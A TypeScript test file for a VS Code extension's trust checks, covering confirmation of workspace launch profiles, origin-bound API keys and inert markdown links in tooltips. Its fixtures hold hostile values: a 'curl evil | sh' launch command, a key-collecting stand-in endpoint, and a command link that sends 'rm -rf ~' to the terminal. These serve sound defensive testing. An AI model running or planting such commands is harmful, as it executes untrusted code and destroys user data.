// The trust decisions, without vscode: which settings of a workspace are honoured, which
// origin gets a key, and that server or settings text in the tooltip renders inert (the
// tooltip is parsed with marked, the markdown parser VS Code renders hovers with).
import * as assert from 'node:assert/strict';
import { encodeBoundKey, endpointOrigin, lookupKey } from '../../src/core/trust/boundKey';
import { escapeMarkdown, inertLinks } from '../../src/core/trust/markdown';
import { askDigest, decide, describeAsk, effectiveValue, workspaceAsk } from '../../src/core/trust/workspaceAsk';
import { renderStatus } from '../../src/extension/statusModel';

const userProfiles = [{ name: 'mine', endpoint: 'http://127.0.0.1:8000', apiKeyName: 'work', launchCommand: 'vllm serve x' }];
const repoProfiles = [{ name: 'repo', endpoint: 'https://collector.example:9999', apiKeyName: 'work', launchCommand: 'curl evil | sh' }];
const hostileLink = '[run](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22rm%20-rf%20~%5Cn%22%7D)';

describe('workspace settings that send code or run commands', () => {
  const profiles = { defaultValue: [], globalValue: userProfiles, workspaceValue: repoProfiles };
  const active = { defaultValue: '', globalValue: 'mine', workspaceValue: 'repo' };

  it('are withheld until confirmed: the user\'s own values apply', () => {
    const d = decide(workspaceAsk(profiles, active), undefined, true);
    assert.equal(d.kind, 'withheld');
    assert.deepEqual(effectiveValue(profiles, d), userProfiles);
    assert.equal(effectiveValue(active, d), 'mine');
  });

  it('apply once the user confirmed exactly this content', () => {
    const ask = workspaceAsk(profiles, active)!;
    const d = decide(ask, askDigest(ask), true);
    assert.equal(d.kind, 'confirmed');
    assert.deepEqual(effectiveValue(profiles, d), repoProfiles);
    assert.equal(effectiveValue(active, d), 'repo');
  });

  it('any change (one character of a command) asks again; reordered keys do not', () => {
    const ask = workspaceAsk(profiles, active)!;
    const changed = workspaceAsk({ ...profiles, workspaceValue: [{ ...repoProfiles[0]!, launchCommand: 'curl evil | bash' }] }, active)!;
    assert.equal(decide(changed, askDigest(ask), true).kind, 'withheld');
    const reordered = workspaceAsk({ ...profiles, workspaceValue: [{ launchCommand: 'curl evil | sh', apiKeyName: 'work', endpoint: 'https://collector.example:9999', name: 'repo' }] }, active)!;
    assert.equal(decide(reordered, askDigest(ask), true).kind, 'confirmed');
  });

  it('are never used in an untrusted workspace, even once confirmed', () => {
    const ask = workspaceAsk(profiles, active)!;
    const d = decide(ask, askDigest(ask), false);
    assert.deepEqual([d.kind, d.kind === 'withheld' && d.why], ['withheld', 'untrusted']);
    assert.deepEqual(effectiveValue(profiles, d), userProfiles);
  });

  it('a workspace folder value counts as the workspace\'s; a workspace that sets nothing is the user\'s', () => {
    assert.equal(decide(workspaceAsk({ globalValue: userProfiles, workspaceFolderValue: repoProfiles }, {}), undefined, true).kind, 'withheld');
    const none = decide(workspaceAsk({ defaultValue: [], globalValue: userProfiles }, { defaultValue: '' }), undefined, true);
    assert.equal(none.kind, 'user-only');
    assert.equal(effectiveValue({ defaultValue: 'd' }, none), 'd');
  });

  it('the confirmation shows every endpoint, key name and command verbatim', () => {
    const text = describeAsk(workspaceAsk(profiles, active)!).join('\n');
    for (const s of ['https://collector.example:9999', '"work"', 'curl evil | sh', '"repo"']) assert.ok(text.includes(s), `${s} in\n${text}`);
  });
});

describe('API keys bound to an origin', () => {
  const stored = encodeBoundKey({ origin: 'http://127.0.0.1:8000', key: 'sk-real' });

  it('go to the origin they were saved for, whatever the path', () => {
    assert.deepEqual(lookupKey(stored, 'http://127.0.0.1:8000/v1'), { kind: 'key', key: 'sk-real' });
    assert.equal(endpointOrigin('HTTP://LocalHost:80/v1'), 'http://localhost');
  });

  it('never to another host, port or scheme', () => {
    for (const endpoint of ['https://collector.example:9999', 'http://127.0.0.1:8001', 'https://127.0.0.1:8000', 'http://127.0.0.1:8000@collector.example/']) {
      const r = lookupKey(stored, endpoint);
      assert.equal(r.kind, 'other-origin', endpoint);
      assert.equal(JSON.stringify(r).includes('sk-real'), false);
    }
  });

  it('a key saved before binding is unbound (used only after the user binds it); a bad endpoint gets nothing', () => {
    assert.deepEqual(lookupKey('sk-old', 'http://127.0.0.1:8000'), { kind: 'unbound', key: 'sk-old', asked: 'http://127.0.0.1:8000' });
    assert.equal(lookupKey(stored, 'localhost:8000').kind, 'bad-endpoint');
    assert.equal(lookupKey(undefined, 'http://127.0.0.1:8000').kind, 'none');
  });
});

describe('text from servers and settings in markdown', () => {
  let marked: typeof import('marked', { with: { 'resolution-mode': 'import' } }).marked;
  before(async () => {
    ({ marked } = await import('marked'));
  });
  const anchors = (md: string) => [...String(marked.parse(md)).matchAll(/<a\s[^>]*href="([^"]*)"/g)].map((m) => m[1]);

  it('a model id or profile name carrying a command link renders as text in the tooltip', () => {
    const view = renderStatus({
      kind: 'degraded',
      message: `server says ${hostileLink}`,
      base: { profile: `p ${hostileLink}`, model: `m\`${hostileLink}\``, count: 0, gpuState: { kind: 'running' }, server: { kind: 'ok' } },
    });
    const html = String(marked.parse(view.tooltip));
    assert.equal(html.includes('workbench.action.terminal'), true, 'the text is still shown');
    assert.deepEqual(anchors(view.tooltip).filter((h) => !h!.startsWith('command:completionLab.')), []);
    assert.equal(anchors(view.tooltip).length, 3, 'the tooltip\'s own three links still work');
  });

  it('escapes images, html, table cells and icons; keeps the characters readable', () => {
    const md = `| ${escapeMarkdown('a|b ![x](http://t/p.png) <img src=x> $(zap) *em*')} |`;
    assert.deepEqual(anchors(md), []);
    assert.doesNotMatch(String(marked.parse(md)), /<img|<em>/);
    assert.equal(String(marked.parse(escapeMarkdown('Qwen/model-1.5B:q4 (x)'))).trim(), '<p>Qwen/model-1.5B:q4 (x)</p>');
  });

  it('notifications: a link in embedded text is left inert', () => {
    assert.equal(inertLinks(`profile "${hostileLink}"`).includes('](command:'), false);
  });
});
